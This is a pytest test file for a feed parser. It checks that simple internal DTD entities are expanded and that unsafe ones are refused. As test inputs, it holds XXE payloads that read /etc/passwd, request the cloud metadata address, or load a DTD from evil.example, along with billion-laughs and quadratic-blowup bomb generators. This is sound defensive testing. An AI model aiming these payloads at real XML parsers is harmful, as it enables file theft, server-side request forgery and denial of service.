"""A DOCTYPE's internal entities: expanded when each is internal, names no other entity and
all of them add little; refused otherwise (external and parameter entities, nested ones as
XML bombs nest them, too much text in all), fast and in little memory."""

from __future__ import annotations

import time
import tracemalloc
from pathlib import Path

import pytest

from syndicate.aggregate.limits import MAX_ENTITY_EXPANSION
from syndicate.aggregate.parse import parse_feed
from syndicate.errors import FeedError
from tests.aggregate.feedweb import Follower, serve
from tests.conftest import ArchiveLocation, FeedServer


def with_doctype(subset: str, channel: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n{subset}\n]>\n<rss version="2.0"><channel>'
        f"<title>T</title>{channel}</channel></rss>"
    ).encode()


def test_entities_in_a_guid_title_and_link_are_expanded_from_served_bytes(
    tmp_path: Path, feed_server: FeedServer, archive_location: ArchiveLocation
) -> None:
    follower = Follower(tmp_path, archive=archive_location)
    url = serve(feed_server, "entities/rss", "entities.rss", "application/rss+xml")
    follower.ok("subscribe", url)
    follower.ok("fetch")
    (copy,) = follower.copies()
    assert copy["guid"] == "https://entities.example/?p=42"
    assert copy["url"] == "https://entities.example/2024/03/menu.html"
    assert copy["title"] == "Menú du jour"  # the iso-8859-1 declaration is read too
    assert copy["feed_title"] == "Café © 2024"


def test_what_an_entity_stands_for() -> None:
    subset = (
        "<!ENTITY sig '<em>Ann</em> &amp; co'>\n<!ENTITY who \"Ann\">\n"
        '<!ENTITY who "Bob">\n<!ENTITY amp "&#38;#38;">\n<!-- ]> in a comment -->'
    )
    channel = (
        "<item><guid>g</guid><title>&who;</title><description>By &sig;</description>"
        "<content:encoded xmlns:content='http://purl.org/rss/1.0/modules/content/'>"
        "<![CDATA[<p>&who; stays in CDATA</p>]]></content:encoded></item>"
    )
    (entry,) = parse_feed(with_doctype(subset, channel), "https://x.example/feed").entries
    assert entry.title == "Ann"  # the first declaration binds
    assert entry.summary_html == "By <em>Ann</em> &amp; co"  # markup in an entity is markup
    assert "&amp;who" in entry.content_html  # a reference in CDATA is text


REFUSED = {
    "external (SYSTEM)": (
        '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
        "<item><title>&xxe;</title></item>",
        "external entity 'xxe'",
    ),
    "external (PUBLIC)": (
        '<!ENTITY ext PUBLIC "-//X//Y" "http://169.254.169.254/latest/meta-data/">',
        "<item><title>&ext;</title></item>",
        "external entity 'ext'",
    ),
    "a parameter entity": (
        '<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;',
        "",
        "parameter entities",
    ),
    "a parameter entity reference": ("%HTMLlat1;", "", "parameter entities"),
    "an entity that names another": (
        '<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">',
        "<item><title>&b;</title></item>",
        "expands another entity",
    ),
    "a subset that cannot be read": ("<!ENTITY broken", "", "cannot be read"),
}


@pytest.mark.parametrize(("subset", "channel", "why"), REFUSED.values(), ids=REFUSED.keys())
def test_entities_that_are_not_simple_are_refused(subset: str, channel: str, why: str) -> None:
    with pytest.raises(FeedError, match=why):
        parse_feed(with_doctype(subset, channel), "https://x.example/feed")


def billion_laughs(levels: int = 10) -> bytes:
    declarations = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels)
    ]
    return with_doctype("\n".join(declarations), f"<item><title>&lol{levels - 1};</title></item>")


def quadratic_blowup() -> bytes:
    """One 50 KB entity used 100,000 times: 5 GB expanded, from a 350 KB document."""
    return with_doctype(
        f'<!ENTITY a "{"x" * 50_000}">', f"<item><title>{'&a;' * 100_000}</title></item>"
    )


BOMBS = {
    "billion laughs": billion_laughs(),
    "quadratic blowup": quadratic_blowup(),
    "many small references": with_doctype(
        '<!ENTITY e "">', "<item><title>" + "&e;" * (MAX_ENTITY_EXPANSION + 1) + "</title></item>"
    ),
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS.keys())
def test_entity_bombs_are_refused_fast_and_small(bomb: bytes) -> None:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(FeedError, match="refusing"):
            parse_feed(bomb, "https://x.example/feed")
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert elapsed < 0.5, elapsed
    assert peak < 5 * len(bomb) + 1_000_000, peak  # copies of the document, nothing expanded


def test_entities_within_the_limit_are_expanded() -> None:
    uses = MAX_ENTITY_EXPANSION // 100
    document = with_doctype(
        f'<!ENTITY a "{"x" * 100}">', f"<item><guid>g</guid><title>{'&a;' * uses}</title></item>"
    )
    (entry,) = parse_feed(document, "https://x.example/feed").entries
    assert entry.title == "x" * (100 * uses)
